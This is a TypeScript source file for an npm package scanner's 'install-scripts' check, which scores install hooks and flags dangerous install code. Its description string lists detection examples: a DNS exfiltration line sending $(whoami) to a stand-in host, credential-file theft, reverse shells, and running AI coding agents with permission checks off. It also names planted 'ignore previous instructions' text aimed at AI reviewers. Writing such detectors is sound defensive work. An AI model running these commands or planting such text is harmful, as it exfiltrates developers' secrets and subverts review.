/**
 * install-scripts: what npm runs on your machine when the package is installed.
 */
import { defineCheck } from './define.js';
import {
  installHooks,
  isPlainNativeBuild,
  scriptLabel,
  suspiciousPatterns,
  truncateCommand,
} from './lib/install-hooks.js';
import { unreadByCap } from './lib/unread-caps.js';
import { INSTALL_CODE_CAP, installCodeFindings, installCommandFindings, type InstallCodeReading } from './lib/install-code.js';

export default defineCheck({
  id: 'install-scripts',
  dimension: 'security',
  weight: 3,
  needs: ['registry'],
  optional: ['tarball'],
  holdsWhenUnread: 'the tarball was not read to its end: npm extracts all of it, and its install scripts are unknown',
  title: 'Install scripts',
  description:
    'Looks for code npm runs at install time (npm only; for PyPI see wheels-published and startup-hooks): preinstall/install/postinstall scripts, `gypfile: true`, or a `binding.gyp` in the tarball (npm then runs `node-gyp rebuild`, unless the manifest opts out with `gypfile: false`), and the same for each package the tarball bundles under `node_modules/` (named by its package, its commands run in its folder; one whose package.json was not read counts as a script). ' +
    'None scores 100, a plain native build (`node-gyp rebuild`, `node-gyp-build`; alone or joined by `||`, with the flags that only choose how it builds — `--release`, `-j 4`, `-v` — and node-gyp-build\'s quoted node-gyp fallback) 60, other scripts 30, and scripts that download, decode or evaluate code (curl, wget, URLs, `node -e` — unless the code only requires files of the package itself, which runs them —, `eval`, base64, PowerShell, piping into a shell…) 10 and hold the verdict at CAUTION; ' +
    'the files of the tarball a script runs, by their paths in it (`node install.js`, `sh ./setup.sh`, `python build.py`, `node -e "require(\'./x\')"`, `node .` by the `main` of its package.json, through wrappers such as `start /B`, `cmd /c`, `timeout`, `sudo`, runners such as `bun` and `tsx`, and the package.json scripts `npm run x` runs, with node\'s extension lookup), the `binding.gyp` node-gyp reads, with the build files it includes (its `includes`, and the `config.gypi` and `common.gypi` node-gyp adds from its folder) and the commands they run (command expansions `<!(…)`, actions, the compiler `make_global_settings` names), and the local modules and code files they load or run, by relative path or by a path built from their own folder (`path.join(__dirname, \'x.js\')`; a module loaded is judged by the code of it that runs: its top level, as load-time-code reads it, and the functions it exports that the code which runs calls — `require(\'./x\').go()`, `const { go } = require(\'./x\'); go()` —, the whole module when a use is not followed (the module handed on, called itself, a class made from it); read breadth first, the modules the running code loads first, those loaded only in functions that do not run after them when the caps leave room, never counted unread; up to 256 files: 8 MiB of each file a script names — past its first MiB while the budgets for such bytes last —, judged in overlapping 1 MiB windows, and 1 MiB of each module it loads, 4 MiB of them in all, the modules the files read load kept before other files; a loaded JSON file, `.node` addon or `.wasm` module is data, not code) are read from the tarball and judged too: sending the machine\'s data (hostname, user, network interfaces, the whole environment, credential files — SSH keys, npm tokens, browser, Discord and wallet stores) over the network or in a name looked up in DNS (`nslookup $(whoami).x.example`), talking to a request-catcher or chat-webhook host or to a host named after the package itself (a dependency-confusion call home: `http://${pkg.name}.x.example`), reading credential files, a reverse shell, running `npm publish`, deleting the home folder or running an AI coding agent with its permission checks off (`claude --dangerously-skip-permissions`, `gemini --yolo`, `q chat --trust-all-tools`: the developer\'s own agent told to act unasked) scores 0, holds the verdict and caps the score at ' +
    `${INSTALL_CODE_CAP.limit}, ` +
    'while evaluating decoded or downloaded code (downloaded: what a network call answered, evaluated in its callbacks, through the names it was assigned to (members of `global`, `process.env` or `module.exports` too), by a function that evaluates its parameter (called with it, handed to the call, or handling an event emitted with it), or within 600 characters of code of it, not an `eval` and a `fetch` apart in one file as Emscripten\'s glue has them; or starting a process with a decoded command line), an obfuscator\'s output or a long encoded blob, a download from a bare IP address or a file-drop host, a detached process that outlives the install, writing to the shell\'s startup files, crontab or login items, writing into the user\'s own folders (Desktop, Documents, Downloads, Pictures, OneDrive), or hiding the name of a process, network or host-data call (spelled in pieces, encoded, or looked up by `Reflect` or a variable: `os[\'host\' + \'name\']()`; the calls are judged with their names made plain), writing where AI coding agents read instructions, skills or tool servers (`.claude/skills`, `.cursor/rules`, `AGENTS.md`, `.mcp.json`…), text addressed to an AI reviewer (`ignore previous instructions`, `this code is legit…`), or a build-file command run for its side effects, its output thrown away or replaced by a constant (`<!(node index.js > /dev/null 2>&1 && echo stub.c)`) scores 10 and holds it (downloading a binary, spawning a compiler and reading environment variables are what installers do, not findings; a curl or wget command line the code only shows — in the text of an Error it throws where it makes it or of a console line, or held by a name used only there, as bun tells users how to install it by hand — is a message, a value of the `scripts` of a package.json a bundle inlined is text (unless code reads a `scripts` member), and `curl -o /dev/null` or `wget --spider` with no command substitution or user or host name in its own command and nothing after it on the line downloading or feeding a shell is a reachability probe: none is a download); the package.json commands themselves are read as shell code too, so a command that sends `$(whoami)` to a host or starts an agent unattended is as dangerous as a file doing it. ' +
    'Unknown, holding the verdict at CAUTION, when the tarball was not read to its end (over a cap: npm extracts all of it), or when a file of that code was read only in part (`truncated`) or not at all (past those caps, or past the 16 files a bundled package\'s commands name; `code-unread`, the limit each reached named as load-time-code names it) and what was read holds no finding; a file a script names that the tarball lacks is listed (one that came before the package.json or binding.gyp of the archive that named it, its own or a bundled one, is read on a second download).',
  messages: {
    none: 'No install-time scripts',
    'native-build': 'Builds native code at install ({hooks}): {commands}',
    scripts: 'Runs install scripts: {commands}',
    suspicious: 'Install script fetches or evaluates code ({flags}): {commands}',
    'code-suspicious': 'Install script code hides or fetches what it runs ({findings}): {commands}',
    'code-dangerous': 'Install script code does what malicious packages do ({findings}): {commands}',
    'code-truncated': 'Install script code too large to read whole ({truncated}): {commands}',
    'code-unread': 'Install script code not all read ({unreadList}): {commands}',
  },
  evaluate: ({ registry, tarball }) => {
    const hooks = installHooks(registry, tarball);
    const implicitGyp = hooks.nativeBuild && !hooks.scripts.some((s) => s.name === 'install' || s.name === 'preinstall');
    // A bundled dependency's script is this package's install-time code too, named by its package.
    const commands = hooks.scripts.map((s) => `${scriptLabel(s)}: ${truncateCommand(s.command)}`);
    if (implicitGyp) commands.push('install: node-gyp rebuild (implicit, binding.gyp)');
    const bundled = [...new Set(hooks.scripts.flatMap((s) => (s.bundled === undefined ? [] : [s.bundled])))];
    const code: InstallCodeReading | null = tarball?.installCode === undefined ? null : installCodeFindings(tarball.installCode);
    const data = {
      scripts: hooks.scripts.map((s) => s.name),
      commands,
      gyp: hooks.nativeBuild,
      bindingGyp: tarball === undefined ? null : tarball.bindingGyp,
      ...(bundled.length === 0 ? {} : { bundled }),
      ...(code === null ? {} : { code: code.files.map((f) => (f.findings.length === 0 ? f.path : `${f.path} (${f.findings.join(', ')})`)), ...(code.missing.length === 0 ? {} : { missing: code.missing }), ...(code.unread.length === 0 ? {} : { unread: code.unread }), ...(code.truncated.length === 0 ? {} : { truncated: code.truncated }) }),
    };
    if (hooks.scripts.length === 0 && !hooks.nativeBuild) return { score: 100, messageId: 'none', data };
    const fromCommands = installCommandFindings(hooks.scripts.map((s) => s.command));
    const dangerous = [...new Set([...(code?.dangerous ?? []), ...fromCommands.dangerous])];
    if (dangerous.length > 0) {
      const findings = dangerous.join(', ');
      const where = code !== null && code.dangerous.length > 0 ? code.where : 'in its package.json scripts';
      return {
        score: 0,
        messageId: 'code-dangerous',
        data: { ...data, findings },
        holdVerdict: `its install script's code does what malicious packages do (${findings}): it runs on every machine that installs the package; lifted only by a version whose install code does not`,
        caps: [
          {
            ...INSTALL_CODE_CAP,
            reason: `the code its install script runs ${where} does what malicious packages do (${findings}); do not install it before reading that code`,
          },
        ],
      };
    }
    if (code !== null && code.suspicious.length > 0) {
      const findings = code.suspicious.join(', ');
      return {
        score: 10,
        messageId: 'code-suspicious',
        data: { ...data, findings },
        holdVerdict: `its install script's code hides or fetches what it runs (${findings}, ${code.where}): it runs on every machine that installs the package; read it before installing`,
      };
    }
    const flags = [...new Set([...hooks.scripts.flatMap((s) => suspiciousPatterns(s.command)), ...fromCommands.suspicious])];
    if (flags.length > 0) {
      return {
        score: 10,
        messageId: 'suspicious',
        data: { ...data, flags },
        holdVerdict: `its install script fetches or evaluates code (${flags.join(', ')}): it runs on every machine that installs the package; read it before installing (a release without it would lift this)`,
      };
    }
    // A file read only in part: its unread end may hold what a worm's bundle carries there. Only a
    // finding in what was read (or in the commands) answers; a clean start is no answer (as an unread tarball is none).
    if (code !== null && code.truncated.length > 0) {
      return {
        score: null,
        messageId: 'code-truncated',
        data,
        holdVerdict: `the code its install script runs was too large to read whole (${code.truncated.join(', ')}): it runs on every machine that installs the package; read it before installing`,
      };
    }
    // Code it runs that was not read (past the reader's caps on files and bytes: docs/security.md):
    // a clean part read is no answer for the rest, as a truncated file's clean start is none.
    if (code !== null && (code.unread.length > 0 || code.unreadBundled.length > 0)) {
      // Grouped by the limit each reached, worded as load-time-code words its own (lib/unread-caps.ts).
      const unread = unreadByCap([...new Set([...code.unreadBundled, ...code.unread])], code.unreadCauses).join('; ');
      return {
        score: null,
        messageId: 'code-unread',
        data: { ...data, unreadList: unread },
        holdVerdict: `the code its install script runs was not all read (${unread}): it runs on every machine that installs the package; read it before installing`,
      };
    }
    if (hooks.scripts.every((s) => isPlainNativeBuild(s.command))) {
      const hookNames = [...hooks.scripts.map((s) => s.name), ...(implicitGyp ? ['binding.gyp'] : [])];
      return { score: 60, messageId: 'native-build', data: { ...data, hooks: hookNames } };
    }
    return { score: 30, messageId: 'scripts', data };
  },
});

